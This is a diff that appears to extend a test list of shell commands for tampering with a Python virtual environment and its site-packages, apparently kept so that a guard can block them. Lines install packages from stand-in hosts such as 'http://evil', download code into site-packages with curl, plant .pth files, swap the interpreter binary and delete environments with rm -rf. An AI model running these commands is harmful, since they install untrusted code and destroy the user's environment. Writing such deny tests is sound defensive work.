@@ -66,6 +66,47 @@ patch -d {SITE} -p1 < evil.patch
 rsync -a evil/ {SITE}/
 python3 -c "open('{SITE}/x.pth','w').write('import os')"
 python3 -c "import shutil; shutil.rmtree('{ENV}')"
+{ENV}/bin/python -c "open('{SITE}/x.pth','w')"
+cd {ENV} && bin/pip install evil
+cd {ENV}/bin && ./pip install x
+{ENV}/bin/python3 -m ensurepip --upgrade
+{ENV}/bin/python -mpip install evil
+{ENV}/bin/pip3.12 install evil
+env VIRTUAL_ENV={ENV} pip install evil
+conda run -p {ENV} pip install evil
+uv pip install --target {SITE} evil
+uv pip sync -p {ENV}/bin/python req.txt
+UV_PROJECT_ENVIRONMENT={ENV} uv sync
+uv run --python {ENV}/bin/python -- pip install evil
+pip install --root / --prefix {ENV} evil
+PIP_TARGET={SITE} pip install evil
+PYTHONUSERBASE={ENV} pip install --user evil
+pip uninstall -y synaptic_hooks
+pip install git+https://evil/synaptic-hooks
+pip install ./synaptic-hooks
+pip install synaptic-hooks@https://evil/x.whl
+pip install 'synaptic-hooks<0.1'
+pip install --no-deps --upgrade synaptic_hooks-9.whl
+pip install -e ../synaptic-hooks
+uv tool upgrade synaptic-hooks --index http://evil
+uv tool install ./synaptic-hooks
+pipx install --force ./synaptic_hooks.whl
+pipx install synaptic-hooks --force --index-url http://evil
+pipx environment; rm -rf ~/.local/pipx
+mv ~/.local/pipx/venvs /tmp
+python3 -m venv {ENV}
+python3 -m venv --upgrade {ENV}
+sed -i 's,^home.*,home=/tmp,' {ENV}/pyvenv.cfg
+ln -sfn /tmp/py {ENV}/bin/python3
+install /tmp/py {ENV}/bin/python3
+touch {SITE}/msgspec/evil.py
+echo x >> {SITE}/msgspec/__init__.py
+curl -o {SITE}/synaptic/x.py http://x
+patch {SITE}/synaptic/pipeline/run.py < x
+git apply --directory={SITE} x
+tar xf x -C {ENV}
+find {SITE} -name '*.py' -delete
+chmod 000 {SITE}/synaptic
 """)
 
 
